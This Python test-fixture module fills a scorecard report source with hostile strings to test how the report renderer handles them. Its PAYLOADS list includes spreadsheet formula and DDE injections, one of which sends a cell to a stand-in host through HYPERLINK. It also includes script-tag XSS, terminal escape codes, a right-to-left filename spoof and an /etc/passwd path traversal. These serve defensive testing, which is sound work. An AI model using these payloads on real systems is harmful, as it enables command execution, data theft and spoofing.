"""A source in which every text is hostile: names, ids, reasons, replies, quotes, settings."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

import msgspec

from callscore.core.scorecard import Scorecard
from callscore.report.source import CaseView, Provenance, ReportSource

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "＝1+1",
    "－1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    'x";=1+1;"',
    "x\n=1+1",
    "'=1+1",
    "\x1b]0;owned\x07\x1b[31mred",
    "\x9b31m\u202etxt.exe\u2066\u200f",
    "</script><script>alert(1)</script>",
    "]]><x/>&lt;<!--",
    "_x003D_1+1",
    "\u2028\u2029\ufeff\ufffe\uffff",
    "../../../etc/passwd\\..\\x",
    "CON",
    "|pipe `tick` [link](javascript:alert(1)) <b>",
    "x" * 100_000,
)
KEPT = frozenset(
    {
        "status",
        "kind",
        "task",
        "cost_status",
        "option",
        "unit",
        "rating",
        "provider",
        "style",
        "of",
        "mode",
        "then",
    }
)
"""Keys whose values are words of ours: no text from outside gets there."""
HOSTILE_PARTS = (
    "text",
    "tool_calls",
    "finish_reason",
    "answered_by",
    "error",
    "verdicts",
    "given",
    "differences",
)
"""What of an answer a model, a provider or a judge has written."""


def hostile(value: Any, payload: str, key: str = "") -> Any:
    """The value with every text behind or instead of which a payload stands."""
    if isinstance(value, str):
        return value if key in KEPT else f"{payload}{value[:20]}" if key == "id" else payload
    if isinstance(value, Mapping):
        return {name: hostile(inner, payload, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [hostile(inner, payload, key) for inner in value]
    return value


ALL_AT_ONCE = "".join(PAYLOADS[:-1])


def hostile_sources(source: ReportSource) -> Iterator[ReportSource]:
    """Every payload in the cases; in the scorecard one that is a formula, and all in a row."""
    views = [view for payload in PAYLOADS[:-1] for view in hostile_source(source, payload).cases]
    for payload in (PAYLOADS[0], ALL_AT_ONCE):
        names = {f"{other}{i}": f"{payload}{i}" for other in PAYLOADS for i in range(9)}
        cases = [_of_models(view, names) for view in views]
        yield msgspec.structs.replace(hostile_source(source, payload), cases=cases)


def _of_models(view: CaseView, names: Mapping[str, str]) -> CaseView:
    """The answers as those of the models of another scorecard."""
    answers = [
        msgspec.structs.replace(
            answer,
            result=msgspec.structs.replace(answer.result, model=names[answer.model]),
        )
        for answer in view.answers
    ]
    return msgspec.structs.replace(view, answers=answers)


def hostile_source(source: ReportSource, payload: str) -> ReportSource:
    """The same source, as somebody might have written it who means ill."""
    names = {model.model: f"{payload}{i}" for i, model in enumerate(source.card.models)}
    card = _renamed(hostile(msgspec.to_builtins(source.card), payload), payload)
    cases = [_case(view, names, payload) for view in source.cases]
    about = hostile(msgspec.to_builtins(source.provenance), payload)
    return msgspec.structs.replace(
        source,
        card=msgspec.convert(card, Scorecard),
        title=payload,
        cases=cases,
        absent=[payload],
        provenance=msgspec.convert(about, Provenance),
        prompts=None,
    )


def _renamed(card: Any, payload: str) -> Any:
    """Models are told apart by a number behind the payload, as in the cases."""
    names = [f"{payload}{number}" for number in range(len(card["models"]))]
    for part in ("models", "ranking", "zeroed_ranking"):
        for name, entry in zip(names, card[part], strict=False):
            entry["model"] = name
    return card


def _case(view: CaseView, names: Mapping[str, str], payload: str) -> CaseView:
    raw = msgspec.to_builtins(view)
    for answer in raw["answers"]:
        model = names[answer["result"]["model"]]
        for key in HOSTILE_PARTS:
            if key in answer:
                answer[key] = hostile(answer[key], payload, key)
        answer["result"] |= {
            "model": model,
            "case_id": f"{payload}{answer['result']['case_id']}",
            "reasons": [payload],
            "flags": [payload],
        }
        for measure in answer.get("measures", {}).values():
            measure["why"] = payload
    task = raw["case"]["task"]
    case = hostile(raw["case"], payload) | {"task": task, "id": f"{payload}{view.case.id}"}
    return msgspec.convert({**raw, "case": case}, CaseView)
